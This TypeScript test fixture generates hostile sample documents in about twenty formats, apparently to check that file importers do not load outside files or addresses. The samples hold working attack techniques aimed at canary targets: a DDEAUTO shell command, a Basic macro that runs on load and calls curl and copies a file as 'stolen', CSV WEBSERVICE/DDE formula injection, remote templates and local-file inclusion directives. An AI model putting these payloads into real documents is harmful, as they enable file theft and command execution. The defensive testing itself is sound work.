import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { flatOdf, makeSample, unzip, zip } from './samples.ts';

/** What a hostile document points at: a text and a picture on disk that are not its own, and an address. */
export interface Canary {
  text: string;
  picture: string;
  url: string;
}

export interface HostileDocument {
  name: string;
  format: string;
  make(path: string, canary: Canary): Promise<unknown>;
}

const relationship = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Puts body text and external relationships into a docx that is otherwise ordinary. */
function docx(
  body: (canary: Canary) => string,
  relations: (canary: Canary) => Record<string, [type: string, target: string]>,
) {
  return async (path: string, canary: Canary) => {
    const parts = await unzip(await makeSample('docx', join(path, '..')));
    const added = Object.entries(relations(canary)).map(
      ([id, [type, target]]) =>
        `<Relationship Id="${id}" Type="${relationship}/${type}" Target="${target}" TargetMode="External"/>`,
    );
    const rename = (name: string, change: (text: string) => string) => {
      parts[name] = Buffer.from(change(String(parts[name] ?? '')));
    };
    rename('word/_rels/document.xml.rels', (text) =>
      text.replace('</Relationships>', `${added.join('')}</Relationships>`),
    );
    rename('word/document.xml', (text) => text.replace('<w:body>', `<w:body>${body(canary)}`));
    return zip(path, parts);
  };
}

const linkedPicture = (id: string) =>
  `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="1000000" cy="1000000"/><wp:docPr id="9" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="9" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="${relationship}" r:link="${id}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="1000000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
const field = (code: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

function typed(text: (canary: Canary) => string) {
  return (path: string, canary: Canary) => writeFile(path, text(canary));
}

const flatText = (body: (canary: Canary) => string, extra: (canary: Canary) => string = () => '') =>
  typed((canary) => flatOdf('text', `<office:text>${body(canary)}<text:p>Body</text:p></office:text>`, extra(canary)));
const frame = (inner: string) =>
  `<text:p><draw:frame text:anchor-type="as-char" svg:width="3cm" svg:height="3cm">${inner}</draw:frame></text:p>`;
const link = (target: string) => `xlink:href="${target}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"`;

const flatSheet = (body: (canary: Canary) => string) =>
  typed((canary) => flatOdf('spreadsheet', `<office:spreadsheet>${body(canary)}</office:spreadsheet>`));
const formula = (text: string) =>
  `<table:table table:name="A"><table:table-row><table:table-cell table:formula="${text}" office:value-type="string"><text:p>shown</text:p></table:table-cell></table:table-row></table:table>`;

const both = (make: (target: string) => string) => (canary: Canary) =>
  make(`file://${canary.picture}`) +
  make(`${canary.url}/picture.png`) +
  make(`file://${canary.text}`) +
  make(`${canary.url}/text.html`);

/** Documents of every importer that point at files or addresses outside themselves. */
export const hostileDocuments: HostileDocument[] = [
  {
    name: 'a docx with linked pictures',
    format: 'docx',
    make: docx(
      () => linkedPicture('evil1') + linkedPicture('evil2'),
      ({ picture, url }) => ({ evil1: ['image', `file://${picture}`], evil2: ['image', `${url}/picture.png`] }),
    ),
  },
  {
    name: 'a docx with fields that include files',
    format: 'docx',
    make: docx(
      ({ text, picture, url }) =>
        field(`INCLUDETEXT "${text}"`) +
        field(`INCLUDEPICTURE "file://${picture}" \\d`) +
        field(`INCLUDEPICTURE "${url}/p.png" \\d`) +
        field(`DDEAUTO cmd "/c touch /tmp/x"`),
      () => ({}),
    ),
  },
  {
    name: 'a docx with a remote template and chunk',
    format: 'docx',
    make: docx(
      () => `<w:altChunk xmlns:r="${relationship}" r:id="evil2"/>`,
      ({ text, url }) => ({
        evil1: ['attachedTemplate', `${url}/template.dotx`],
        evil2: ['aFChunk', `file://${text}`],
      }),
    ),
  },
  {
    name: 'a docx with a linked object',
    format: 'docx',
    make: docx(
      () =>
        `<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" style="width:100pt;height:100pt"><v:imagedata xmlns:r="${relationship}" r:id="evil2"/></v:shape><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="${relationship}" Type="Link" ProgID="Word.Document.8" ShapeID="s" DrawAspect="Content" ObjectID="1" r:id="evil1" UpdateMode="Always"/></w:object></w:r></w:p>`,
      ({ text, url }) => ({ evil1: ['oleObject', `file://${text}`], evil2: ['image', `${url}/i.png`] }),
    ),
  },
  {
    name: 'flat text with linked pictures',
    format: 'fodt',
    make: flatText(both((target) => frame(`<draw:image ${link(target)}/>`))),
  },
  {
    name: 'flat text with a section from a file',
    format: 'fodt',
    make: flatText(({ text, url }) =>
      [`file://${text}`, `${url}/section.odt`]
        .map(
          (target, index) =>
            `<text:section text:name="s${index}"><text:section-source ${link(target)} text:filter-name="Text"/><text:p>old</text:p></text:section>`,
        )
        .join(''),
    ),
  },
  {
    name: 'flat text with linked objects and frames',
    format: 'fodt',
    make: flatText(
      both(
        (target) =>
          frame(`<draw:object ${link(target)}/>`) +
          frame(`<draw:floating-frame ${link(target)}/>`) +
          frame(`<draw:plugin ${link(target)}/>`),
      ),
    ),
  },
  {
    name: 'flat text with a macro on opening and a DDE field',
    format: 'fodt',
    make: flatText(
      ({ text }) =>
        `<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" office:dde-topic="${text}" office:dde-item="1" office:automatic-update="true"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-name="d">old</text:dde-connection></text:p>`,
      ({ text, url }) =>
        `<office:scripts><office:script script:language="ooo:Basic" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main\nShell("curl ${url}/macro")\nFileCopy "${text}", "${text}.stolen"\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="ooo:script" script:event-name="dom:load" ${link('vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document')}/></office:event-listeners></office:scripts>`,
    ),
  },
  {
    name: 'a web page with everything that loads',
    format: 'html',
    make: typed(
      both(
        (target) =>
          `<link rel="stylesheet" href="${target}"><img src="${target}"><iframe src="${target}"></iframe><object data="${target}"></object><embed src="${target}"><body background="${target}"><style>@import url("${target}"); p { background: url(${target}) }</style><p style="background-image:url(${target})">Body</p><table background="${target}"><tr><td>x</td></tr></table><input type="image" src="${target}"><bgsound src="${target}"><applet code="x" codebase="${target}"></applet><script src="${target}"></script>`,
      ),
    ),
  },
  {
    name: 'rich text with fields, objects and a template',
    format: 'rtf',
    make: typed(
      ({ text, picture, url }) =>
        `{\\rtf1\\ansi{\\*\\template ${url}/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${picture}" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/p.png" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${text}"}{\\fldrslt x}}{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata 0105}}Body\\par}`,
    ),
  },
  {
    name: 'a flat sheet with linked tables, services and DDE',
    format: 'fods',
    make: flatSheet(
      ({ text, url }) =>
        `<table:table table:name="L"><table:table-source ${link(`file://${text}`)} table:filter-name="Text - txt - csv (StarCalc)" table:filter-options="44,34,76,1" table:mode="copy-all" table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row></table:table>` +
        formula(`of:=WEBSERVICE(&quot;${url}/service&quot;)`) +
        formula(`of:='file://${text}'#$Sheet1.A1`).replace('"A"', '"B"') +
        formula(`of:=DDE(&quot;soffice&quot;;&quot;${text}&quot;;&quot;Sheet1.A1&quot;)`).replace('"A"', '"C"'),
    ),
  },
  {
    name: 'a csv with formulas',
    format: 'csv',
    make: typed(
      ({ text, url }) =>
        `a,b\n"=WEBSERVICE(""${url}/csv"")","='file://${text}'#$Sheet1.A1"\n"=DDE(""soffice"";""${text}"";""A1"")",=1+1\n`,
    ),
  },
  {
    name: 'a flat presentation with linked pictures and sounds',
    format: 'fodp',
    make: typed((canary) =>
      flatOdf(
        'presentation',
        `<office:presentation><draw:page draw:name="p">${both((target) => `<draw:frame svg:width="3cm" svg:height="3cm"><draw:image ${link(target)}/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm"><draw:plugin ${link(target)}/></draw:frame>`)(canary)}<draw:frame svg:width="9cm" svg:height="3cm"><draw:text-box><text:p>Body</text:p></draw:text-box></draw:frame></draw:page></office:presentation>`,
      ),
    ),
  },
  { name: 'markdown with pictures', format: 'md', make: typed(both((target) => `![x](${target})\n\n`)) },
  {
    name: 'reStructuredText with inclusions',
    format: 'rst',
    make: typed(
      ({ text, picture, url }) =>
        `Body\n\n.. include:: ${text}\n\n.. literalinclude:: ${text}\n\n.. csv-table::\n   :file: ${text}\n\n.. image:: ${picture}\n\n.. image:: ${url}/p.png\n\n.. raw:: html\n   :file: ${text}\n`,
    ),
  },
  {
    name: 'LaTeX with inclusions',
    format: 'tex',
    make: typed(
      ({ text, picture, url }) =>
        `Body \\input{${text}} \\include{${text}} \\lstinputlisting{${text}} \\verbatiminput{${text}} \\includegraphics{${picture}} \\includegraphics{${url}/p.png}\n`,
    ),
  },
  {
    name: 'an org file with inclusions',
    format: 'org',
    make: typed(
      ({ text, picture, url }) =>
        `Body\n\n#+INCLUDE: "${text}"\n#+SETUPFILE: ${text}\n\n[[file:${picture}]]\n\n[[${url}/p.png]]\n`,
    ),
  },
  {
    name: 'a txt2tags file with inclusions',
    format: 't2t',
    make: typed(({ text, url }) => `T\nA\nD\n\nBody\n\n%!include: ${text}\n\n[${url}/p.png]\n`),
  },
  {
    name: 'DocBook with inclusions',
    format: 'docbook',
    make: typed(
      ({ text, picture, url }) =>
        `<article xmlns="http://docbook.org/ns/docbook" xmlns:xi="http://www.w3.org/2001/XInclude"><para>Body</para><xi:include href="${text}" parse="text"/><mediaobject><imageobject><imagedata fileref="${picture}"/></imageobject></mediaobject><mediaobject><imageobject><imagedata fileref="${url}/p.png"/></imageobject></mediaobject></article>`,
    ),
  },
];
